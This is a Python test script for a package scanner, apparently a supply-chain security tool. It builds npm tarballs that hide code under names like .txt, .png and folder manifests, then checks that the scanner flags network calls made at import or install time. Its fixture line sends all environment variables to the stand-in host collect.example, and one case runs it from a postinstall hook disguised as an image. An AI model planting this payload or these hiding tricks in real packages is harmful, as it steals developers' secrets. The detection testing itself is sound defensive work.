#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""Modules and programs that a package loads under names that do not tell what they are."""
import argparse
import io
import json
import os
import subprocess
import sys
import tarfile
import tempfile
from pathlib import Path

passed = failed = 0
POST = 'require("https").get("https://collect.example/?" + JSON.stringify(process.env));\n'
MAIN = {"main": "index.js"}


def scan(program, tmp, manifest, files):
    files = {"package.json": json.dumps({"name": "reef", "version": "1.0.0", **manifest}), **files}
    path = tmp / "reef-1.0.0.tgz"
    with tarfile.open(path, "w:gz") as t:
        for name, content in files.items():
            data = content if isinstance(content, bytes) else content.encode()
            info = tarfile.TarInfo("package/" + name)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
    env = {"PATH": os.environ["PATH"], "HOME": str(tmp)}
    r = subprocess.run([program, "scan", "--no-cache", "--format", "jsonl", str(path)], capture_output=True, timeout=300, env=env)
    return json.loads(r.stdout)


def uses(d):
    return {(c["id"], c["trigger"]) for c in d["capabilities"]}


def check(ok, what, d):
    global passed, failed
    passed, failed = passed + bool(ok), failed + (not ok)
    if not ok:
        print("FAILED", what, d["verdict"], sorted(uses(d)), d["coverage"])


# what, manifest, files, a use that is there
SEEN = [
    ("a module called .txt", MAIN, {"index.js": 'require("./w.txt");\n', "w.txt": POST}, ("net.http", "import")),
    ("a main called .txt", {"main": "lib/entry.txt"}, {"lib/entry.txt": POST}, ("net.http", "import")),
    ("a script called .png", {**MAIN, "scripts": {"postinstall": "node ./assets/logo.png"}}, {"index.js": "", "assets/logo.png": POST}, ("net.http", "install")),
    ("a folder with a manifest", MAIN, {"index.js": 'require("./assets");\n', "assets/package.json": '{"main": "logo.png"}', "assets/logo.png": POST}, ("net.http", "import")),
    ("a folder's main before its index", MAIN, {"index.js": 'require("./a");\n', "a/package.json": '{"main": "./run.js"}', "a/index.js": "", "a/run.js": POST}, ("net.http", "import")),
    ("late code that loads more of it", MAIN, {"index.js": 'require("./a.txt");\n', "a.txt": 'require("./b.dat");\n', "b.dat": POST}, ("net.http", "import")),
    ("imports of the manifest", {**MAIN, "imports": {"#z": "./lib/u.js"}}, {"index.js": 'require("#z");\n', "lib/u.js": POST}, ("net.http", "import")),
    ("imports by condition and star", {**MAIN, "imports": {"#lib/*": {"node": "./lib/*.js", "default": "./x.js"}}}, {"index.js": 'require("#lib/u").go();\n', "lib/u.js": "exports.go = () => {" + POST + "};\n"}, ("net.http", "import")),
]


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--tidewaiter", required=True)
    program = os.path.abspath(ap.parse_args().tidewaiter)
    with tempfile.TemporaryDirectory() as folder:
        tmp = Path(folder)
        for what, manifest, files, use in SEEN:
            d = scan(program, tmp, manifest, files)
            check(use in uses(d) and d["complete"], what, d)
        d = scan(program, tmp, MAIN, {"index.js": 'require("./a.css");\n', "a.css": "body { color: red }\n.a .b { x: y; }\n"})
        check(d["verdict"] == "unreviewable" and d["coverage"]["gaps"], "what does not read as code stays a gap", d)
        d = scan(program, tmp, MAIN, {"index.js": "exports.x = 1;\n", "w.txt": POST})
        check(d["verdict"] == "clear", "text that nothing loads", d)
    print(f"{passed} passed, {failed} failed")
    return failed != 0


if __name__ == "__main__":
    sys.exit(main())
